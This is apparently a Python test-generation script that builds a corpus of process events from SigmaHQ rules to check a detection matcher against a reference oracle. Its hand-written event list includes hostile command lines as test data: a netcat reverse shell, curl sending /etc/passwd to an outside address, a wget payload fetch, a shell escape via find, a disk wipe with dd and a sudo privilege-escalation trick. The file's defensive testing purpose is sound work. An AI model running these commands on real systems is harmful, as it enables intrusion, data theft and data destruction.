"""Generates the differential-test event corpus from SigmaHQ rules.

Usage: python3 gen_events.py RULES_DIR > events.jsonl

For every rule it derives events from the rule's own detection values (so
most rules have events that should and should not match): one event per
search, one with every non-filter search together, the same with filters
added, and upper-cased variants. It then adds a few hand-written
benign and edge-case events. Deterministic: same rules, same output.

The expected matches for these events come from the reference matcher
(pySigma + SQLite, shared/oracle/sigma-oracle), never from our code; see
README.md next to this file.
"""
import glob
import json
import os
import sys

import yaml

DEFAULT_IMAGE = "/usr/bin/true"


def fill(value, anchor):
    """A concrete string that satisfies one Sigma string value."""
    text = str(value)
    out = []
    i = 0
    while i < len(text):
        c = text[i]
        if c == "\\" and i + 1 < len(text) and text[i + 1] in "*?\\":
            out.append(text[i + 1])
            i += 2
            continue
        if c == "*":
            out.append("x")
        elif c == "?":
            out.append("q")
        else:
            out.append(c)
        i += 1
    s = "".join(out)
    if anchor == "contains":
        return "a " + s + " z"
    if anchor == "endswith":
        return "/opt/a" + s
    if anchor == "startswith":
        return s + " z"
    return s


def item_fields(key, values):
    """Field -> text that satisfies `key: values` (None when we cannot)."""
    parts = key.split("|")
    field, mods = parts[0], parts[1:]
    if not field or "re" in mods or "exists" in mods:
        return None
    anchor = next((m for m in mods if m in ("contains", "startswith", "endswith")), None)
    if not isinstance(values, list):
        values = [values]
    values = [v for v in values if v is not None and not isinstance(v, (dict, list))]
    if not values:
        return None
    if "all" in mods:
        if anchor == "contains":
            return field, "a " + " ".join(fill(v, None) for v in values) + " z"
        return field, fill(values[0], anchor)
    return field, fill(values[0], anchor)


def search_fields(search):
    """Field assignments satisfying one search (its first alternative)."""
    if isinstance(search, list):
        search = next((s for s in search if isinstance(s, dict)), None)
    if not isinstance(search, dict):
        return {}
    out = {}
    for key, values in search.items():
        got = item_fields(str(key), values)
        if got:
            field, text = got
            # Two items on one field (e.g. contains|all and contains):
            # join so both can hold.
            out[field] = out[field] + " " + text if field in out else text
    return out


def events_for(rule):
    detection = rule.get("detection") or {}
    searches = {k: v for k, v in detection.items() if k != "condition"}
    events = []
    combined = {}
    with_filters = {}
    for name, search in searches.items():
        fields = search_fields(search)
        if not fields:
            continue
        ev = {"Image": DEFAULT_IMAGE}
        ev.update(fields)
        events.append(ev)
        if name.startswith("filter"):
            with_filters.update(fields)
        else:
            combined.update(fields)
    if combined:
        events.append(dict(combined))
        events.append({k: v.upper() for k, v in combined.items()})
        if with_filters:
            both = dict(combined)
            both.update(with_filters)
            events.append(both)
    return events


HAND_WRITTEN = [
    {"Image": "/usr/bin/systemctl", "CommandLine": "systemctl stop kesl", "User": "root"},
    {"Image": "/usr/bin/systemctl", "CommandLine": "systemctl status kesl", "User": "root"},
    {"Image": "/bin/bash", "CommandLine": "/bin/bash /etc/init.d/kesl stop"},
    {"Image": "/usr/bin/ls", "CommandLine": "ls -la /home", "ParentImage": "/usr/bin/bash"},
    {"Image": "/usr/bin/nc", "CommandLine": "nc 203.0.113.5 4444 -e /bin/bash"},
    {"Image": "/usr/bin/curl", "CommandLine": "curl -f https://example.com/x.sh"},
    {"Image": "/usr/bin/curl", "CommandLine": "curl -F f=@/etc/passwd https://203.0.113.5/"},
    {"Image": "/usr/sbin/auditctl", "CommandLine": "auditctl -D"},
    {"Image": "/usr/sbin/auditctl", "CommandLine": "auditctl -d always,exit"},
    {"Image": "/usr/bin/python3", "CommandLine": "python3 -c import pty;pty.spawn('/bin/sh')"},
    {"Image": "/usr/bin/find", "CommandLine": "find / -perm -4000 -exec /bin/sh \\;"},
    {"Image": "/usr/bin/base64", "CommandLine": "base64 -d /tmp/p.b64"},
    {"Image": "/usr/bin/crontab", "CommandLine": "crontab -l"},
    {"Image": "/usr/bin/chmod", "CommandLine": "chmod +x /tmp/payload", "ParentCommandLine": "bash"},
    {"Image": "/usr/bin/wget", "CommandLine": "wget http://203.0.113.5/a -O /tmp/a"},
    {"Image": "/usr/bin/dd", "CommandLine": "dd if=/dev/zero of=/dev/sda bs=1M"},
    {"Image": "/usr/bin/sudo", "CommandLine": "sudo -u#-1 /bin/bash"},
    {"Image": "/usr/bin/git", "CommandLine": "git clone https://github.com/rust-lang/regex"},
]


def main():
    if len(sys.argv) != 2:
        sys.exit("usage: gen_events.py RULES_DIR")
    seen = set()
    out = []
    for path in sorted(glob.glob(os.path.join(sys.argv[1], "**", "*.yml"), recursive=True)):
        with open(path, encoding="utf-8") as f:
            for rule in yaml.safe_load_all(f):
                if isinstance(rule, dict):
                    for ev in events_for(rule):
                        key = json.dumps(ev, sort_keys=True)
                        if key not in seen:
                            seen.add(key)
                            out.append(ev)
    for ev in HAND_WRITTEN:
        key = json.dumps(ev, sort_keys=True)
        if key not in seen:
            seen.add(key)
            out.append(ev)
    for ev in out:
        print(json.dumps(ev, ensure_ascii=False, sort_keys=True))


if __name__ == "__main__":
    main()
